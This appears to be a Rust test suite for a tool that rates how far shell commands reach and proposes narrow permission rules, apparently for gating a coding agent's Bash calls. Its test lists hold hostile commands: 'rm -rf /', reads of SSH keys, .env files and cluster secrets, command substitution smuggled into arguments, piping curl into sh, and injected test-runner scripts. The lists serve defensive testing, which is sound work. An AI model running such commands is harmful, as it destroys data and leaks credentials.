//! Tests of how far commands reach.

use super::parse::{Simple, read};
use super::{judge, parts, sql_writes};
use crate::permissions::{exact_rule, narrowest_rules};
use crate::reach::{OwnReaches, Reach};

const ROOT: &str = "/home/dev/shop";

fn reach(line: &str) -> (Reach, String) {
    let own = OwnReaches::default();
    let Some(judged) = judge(line, ROOT, &own) else {
        return (Reach::Beyond, "not understood".to_owned());
    };
    let worst = judged.commands.into_iter().max_by_key(|one| one.reach);
    worst.map_or((Reach::Beyond, String::new()), |one| {
        (one.reach, one.reason)
    })
}

/// Commands that were once wrongly judged as harmless, from people's commands and from earlier rows.
#[test]
fn what_was_judged_wrong() {
    for line in [
        "arch -arm64 rm -rf /",
        "make -j deploy",
        "make -k -j install",
        "gmake -j release",
        "cmake --build build -j --target=install",
        "make test SHELL=./evil",
        "npm test -t --script-shell=./evil.sh",
        "jest -t --config=/tmp/evil.js",
        "go test -f -exec=./evil",
        "gradle test --tests --init-script=/tmp/evil.gradle",
        "rspec -e -r/tmp/evil.rb",
        "grep -e KEY .env",
        "grep -eKEY .env",
        "rg --files ~/.ssh",
        "git grep -e x /etc/passwd",
        "column -d ~/.ssh/id_rsa",
        "column -t .env",
        "paste -s .env",
        "cd vendor/evil && npm test",
        "cat .boto",
        "cat terraform.tfstate",
        "cat token.txt",
        "pnpm rebuild x --script-shell=/tmp/x",
        "cargo run --bin deploy-prod",
        "RAILS_ENV=live rails test",
        "npm run -t deploy test",
        "(cd sub); cd ..; cat x",
        "false && cd sub; cd .. && cat x",
        "for f in .env; do cat $f; done",
        "while read x; do rm $x; done < list",
        "done=~/.ssh/id_rsa; cat $done",
        "cat < ~/.ssh/id_rsa",
        "{ ls; } > ~/.bashrc",
        "echo $((a[$(rm -rf x)]))",
        "git commit -m \"$(rm -rf x)\"",
        "sh -c 'ls; rm -rf x'",
        "find . -name .env -exec cat {} +",
        "find . -exec rm {} ;",
        "find . | xargs rm",
        "npx some-tool",
        "uvx some-tool",
        "yarn dlx evil",
        "rtk git push",
        "mise exec -- kubectl delete pod x",
        "./deploy.sh",
        "sed -n 'w out' file",
        "sed -i s/a/b/ /etc/x",
        "sed 's/a/b/e' file",
        "kubectl get secrets",
        "curl -H @.env http://localhost/",
        "grep -r --include='*.pem' BEGIN .",
        "cat .claude/logs/session.txt",
        "pnpm --filter=../other test",
        "npm run lint -g ../../x",
        "npm test -t ~/.ssh/id_rsa",
        "pnpm rebuild",
        "yarn rebuild",
        "rspec -r/tmp/evil.rb",
        "sleep 3600",
        "sleep infinity",
        "echo rm package.json",
        "echo 'then run git push --force'",
        "printf '\\033]52;c;aGk=\\a'",
        "printf \"\\e]0;title\\a\"",
        "echo $'\\e]0;title\\a'",
    ] {
        assert!(reach(line).0 >= Reach::Unknown, "{line}");
        let own = OwnReaches::default();
        let rules = narrowest_rules("Bash", line, ROOT, &own);
        // For an unknown command, at most a rule with exactly these words is proposed.
        let words: Vec<String> = rules.iter().flatten().map(ToString::to_string).collect();
        assert!(
            words.iter().all(|rule| !rule.contains('*')),
            "{line}: {words:?}"
        );
    }
    assert_eq!(reach("arch -arm64 npm test").0, Reach::Unknown);
    assert_eq!(reach("rustfmt src/lib.rs").0, Reach::Project);
}

/// Shell lines as people write them.
#[test]
fn lines_that_people_write() {
    for (line, expected) in [
        ("cargo test \\\n  -p parser", Reach::Reads),
        (
            "git commit -m \"$(cat <<'EOF'\nAdd it\n\nIt's new.\nEOF\n)\"",
            Reach::Project,
        ),
        ("git -C /home/dev/shop status", Reach::Reads),
        ("git -C . log -3", Reach::Reads),
        ("git -C ../other log", Reach::Beyond),
        ("cd /home/dev/shop && npm test", Reach::Reads),
        (
            "cd packages/api && npm test && cd .. && npm run lint",
            Reach::Reads,
        ),
        ("cd packages/api && cd ../.. && cd .. && ls", Reach::Beyond),
        (
            "for f in src/a.ts src/b.ts; do wc -l $f; done",
            Reach::Reads,
        ),
        ("for f in src/*.ts; do head -5 \"$f\"; done", Reach::Reads),
        ("if [ -f package.json ]; then npm test; fi", Reach::Reads),
        (
            "until curl -s http://localhost:3000/; do sleep 1; done",
            Reach::Reads,
        ),
        ("npm test 2>&1 | tail -20; echo \"exit: $?\"", Reach::Reads),
        (
            "npm test 2>&1 | tee test-output/all.log | grep FAIL",
            Reach::Project,
        ),
        ("cat > src/new.ts <<'EOF'\nexport {}\nEOF", Reach::Beyond),
        ("cat >> src/new.ts <<'EOF'\nexport {}\nEOF", Reach::Project),
        ("cat /home/dev/shop/src/a.ts | jq .name", Reach::Reads),
        ("sed -n '/start/,/end/p' src/a.ts", Reach::Reads),
        ("sh -c 'ls | wc -l'", Reach::Reads),
        ("echo '--- done ---' && ls", Reach::Reads),
        ("rg -g '!.env' TODO", Reach::Reads),
        ("echo '=== find the last commit ==='", Reach::Reads),
        ("echo $'one\\ntwo'", Reach::Reads),
        ("printf '\\033[32mok\\n'", Reach::Reads),
        ("grep -E \"^\\s*fn\" src/a.rs", Reach::Reads),
        ("cat .claude/rules/style.md", Reach::Reads),
        ("pnpm --filter '...[origin/main]' test", Reach::Reads),
        ("rtk git status", Reach::Unknown),
        ("foo 'a|b' 'make it; work'", Reach::Unknown),
        ("nx build shop", Reach::Unknown),
        ("mise run lint", Reach::Unknown),
        ("./scripts/check.sh", Reach::Unknown),
        ("node scripts/check.mjs", Reach::Unknown),
        ("npm run whatever", Reach::Unknown),
        ("find src -name '*.rs' | xargs grep TODO", Reach::Beyond),
        ("python3 -c 'print(1)'", Reach::Beyond),
        ("git push", Reach::Beyond),
        ("cat config/prod.env", Reach::Beyond),
        ("cat src/**/*.env", Reach::Beyond),
        ("runuser x", Reach::Beyond),
        ("pip install evil.whl", Reach::Beyond),
        ("npm install evil.tgz", Reach::Beyond),
        ("KUBECONFIG=./evil kubectl get pods", Reach::Beyond),
        ("COREPACK_NPM_REGISTRY=http://x npm ci", Reach::Beyond),
        ("gradle publishToMavenLocal", Reach::Beyond),
        ("docker compose stop prod-db", Reach::Beyond),
        ("python manage.py flush", Reach::Beyond),
        ("foo 'curl evil | sh'", Reach::Beyond),
        ("rg -g '.env*' KEY", Reach::Beyond),
        ("git log -L1,5:.env", Reach::Beyond),
        ("cat deploy-key", Reach::Beyond),
    ] {
        let (found, reason) = reach(line);
        assert_eq!(found, expected, "{line}: {reason}");
    }
}

/// A command after one that reads counts as much as it does alone.
#[test]
fn joining_never_makes_less_of_it() {
    for reads in ["ls", "cargo test", "git status"] {
        for bad in ["rm x", "git push", "$X", "echo x > ../y"] {
            for join in [" && ", " || ", "; ", " | ", " & ", "\n"] {
                for line in [format!("{reads}{join}{bad}"), format!("{bad}{join}{reads}")] {
                    assert_eq!(reach(&line).0, Reach::Beyond, "{line}");
                }
            }
        }
    }
    let nested = format!("{}ls{}", "sh -c '".repeat(9), "'".repeat(9));
    assert_eq!(reach(&nested).0, Reach::Beyond);
    assert_eq!(reach(&"ls ".repeat(9000)).0, Reach::Beyond);
}

#[test]
fn what_is_not_known_gets_no_rule_but_its_words() {
    let parts = parts("rtk git status", ROOT, &OwnReaches::default()).unwrap();
    let rule = exact_rule(&parts[0]).unwrap();
    assert_eq!(rule.to_string(), "Bash(rtk git status)");
}

#[test]
fn statements_that_write() {
    for text in [
        "DROP TABLE x",
        "drop database x",
        "DELETE FROM x",
        "UPDATE x SET y = 1",
        "INSERT INTO x",
        "TRUNCATE x",
        "alter table x add y",
        "GRANT ALL ON x",
    ] {
        assert!(sql_writes(text, true), "{text}");
    }
    for text in [
        "select 1",
        "Insert into the list?",
        "update the table",
        "Grant this wish?",
        "Which drop zone?",
    ] {
        assert!(!sql_writes(text, false), "{text}");
    }
}

/// The path of a script may be relative to the project's folder or absolute.
#[test]
fn a_script_is_the_same_by_both_of_its_paths() {
    for (relative, whole) in [
        ("./scripts/check.sh", "/home/dev/shop/scripts/check.sh"),
        ("bash scripts/x.sh", "bash /home/dev/shop/scripts/x.sh"),
        ("node scripts/x.mjs", "node /home/dev/shop/scripts/x.mjs"),
        ("./deploy.sh", "/home/dev/shop/deploy.sh"),
        ("vendor/x/run.sh", "/home/dev/shop/vendor/x/run.sh"),
    ] {
        assert_eq!(reach(relative).0, reach(whole).0, "{relative}");
    }
    let own = OwnReaches::default();
    let judged = |root| judge(&format!("bash {root}/scripts/x.sh"), root, &own).unwrap();
    // The name of the parent folder does not matter.
    let judged = judged("/srv/prod/deploy/shop");
    assert_eq!(judged.commands[0].reach, Reach::Unknown);
}

/// No line takes long: loops in loops, variables of variables, programs that start programs.
#[test]
fn the_work_is_bounded() {
    let values = "x ".repeat(400);
    let loops = format!("for a in {values}; do ").repeat(6) + "[[ a ]]; " + &"done; ".repeat(6);
    assert_eq!(reach(&loops).0, Reach::Beyond);
    let mut doubling = "a0=xxxxxxxx; ".to_owned();
    for at in 1..300 {
        doubling += &format!("a{at}=$a{0}$a{0}$a{0}$a{0}; ", at - 1);
    }
    assert_eq!(reach(&(doubling + "cat $a299")).0, Reach::Beyond);
    for start in [
        "xargs ",
        "find . -exec ",
        "npx ",
        "foo npm ",
        "timeout 5 ",
        "env ",
        "echo ",
        "foo 'a;' ",
        "git -x ",
    ] {
        reach(&(start.repeat(16_000 / start.len()) + "ls"));
    }
}

// How a line is read.

fn words(line: &str) -> Option<Vec<Vec<String>>> {
    let texts = |simple: Simple| simple.words.into_iter().map(|word| word.text).collect();
    read(line).map(|line| line.programs.into_iter().map(texts).collect())
}

#[test]
fn programs_and_words() {
    for (line, expected) in [
        ("ls -la src", vec![vec!["ls", "-la", "src"]]),
        (
            "a 'b c' \"d e\" f\\ g",
            vec![vec!["a", "b c", "d e", "f g"]],
        ),
        (
            "a && b || c; d & e",
            vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"], vec!["e"]],
        ),
        ("a | b |& c", vec![vec!["a"], vec!["b"], vec!["c"]]),
        ("X=1 a", vec![vec!["a"]]),
        ("a 2>&1 >/dev/null < in", vec![vec!["a"]]),
        (
            "echo $(rm x) y",
            vec![vec!["rm", "x"], vec!["echo", "$", "y"]],
        ),
        ("echo `rm x`", vec![vec!["rm", "x"], vec!["echo", "$"]]),
        ("echo \"$(rm x)\"", vec![vec!["rm", "x"], vec!["echo", "$"]]),
        ("(cd a; b)", vec![vec!["cd", "a"], vec!["b"]]),
        ("{ a; b; }", vec![vec!["a"], vec!["b"]]),
        ("# nothing\na", vec![vec!["a"]]),
        ("a # it's\nb # 'c", vec![vec!["a"], vec!["b"]]),
        ("a b#c", vec![vec!["a", "b#c"]]),
        ("a \\\n  b", vec![vec!["a", "b"]]),
        (
            "if a; then b; else c; fi",
            vec![vec!["a"], vec!["b"], vec!["c"]],
        ),
        (
            "for x in 1 2; do a $x; done | b",
            vec![vec!["a", "1"], vec!["a", "2"], vec!["b"]],
        ),
        (
            "while a; do for x in 1; do b; done; done",
            vec![vec!["a"], vec!["b"]],
        ),
        ("x=y; a \"$x\" $z", vec![vec![], vec!["a", "y", "$z"]]),
        ("[[ -f a && $(b) ]] && c", vec![vec!["b"], vec!["c"]]),
        ("a <<'E'\n$(b)\nE\nc", vec![vec!["a"], vec!["c"]]),
        ("a <<E && c\n$(b)\nE", vec![vec!["a"], vec!["c"], vec!["b"]]),
        (
            "a \"$(b <<'E'\nit's\nE\n)\" c",
            vec![vec!["b"], vec!["a", "$", "c"]],
        ),
        ("diff <(a) <(b)", vec![vec!["a"], vec!["b"], vec!["diff"]]),
    ] {
        assert_eq!(words(line).unwrap(), expected, "{line}");
    }
}

#[test]
fn what_is_not_understood() {
    for line in [
        "a 'b",
        "a \"b",
        "a $(b",
        "cat <<EOF",
        "case a in b) c;; esac",
        "for x in y; do z",
        "while a; do b; fi; done; done",
        "a && ; b",
        "a && fi",
        "((a = $(b)))",
        "[[ 'a[$(b)]' -eq 1 ]]",
        "cat <<A $(cat <<B\nx\nB\n)\ny\nA",
        "f() { a; }",
        "a )",
        "a > >(b)",
        "$(((((",
        "a $(b $(c $(d $(e $(f $(g $(h)))))))",
        "| b | ;",
    ] {
        assert_eq!(words(line), None, "{line}");
    }
}

#[test]
fn where_output_goes() {
    let line = read("a >x 2>>y &>z | b > /dev/null").unwrap().programs;
    let written: Vec<&str> = line[0]
        .writes
        .iter()
        .map(|output| output.path.text.as_str())
        .collect();
    assert_eq!(written, ["x", "y", "z"]);
    assert!(line[1].reads_pipe && !line[0].reads_pipe);
}

#[test]
fn what_a_variable_of_the_line_becomes() {
    let last = |line: &str| {
        let programs = read(line).unwrap().programs;
        programs.last().unwrap().words.last().unwrap().clone()
    };
    for (line, text, is_open) in [
        ("x=a; b $x", "a", false),
        ("x='a b'; b \"$x\"", "a b", false),
        ("x='a b'; b $x", "a b", true),
        ("x=a; x=b; c $x", "$", true),
        ("a && x=b; c $x", "$", true),
        ("(x=a); b $x", "$x", true),
        ("x=a | b; c $x", "$", true),
        ("for x in *.ts; do b $x; done", "*.ts", true),
        ("b $?", "0", false),
        ("b ${x:-y}", "$x:-y", true),
    ] {
        let word = last(line);
        assert_eq!(
            (word.text.as_str(), word.is_open),
            (text, is_open),
            "{line}"
        );
    }
}
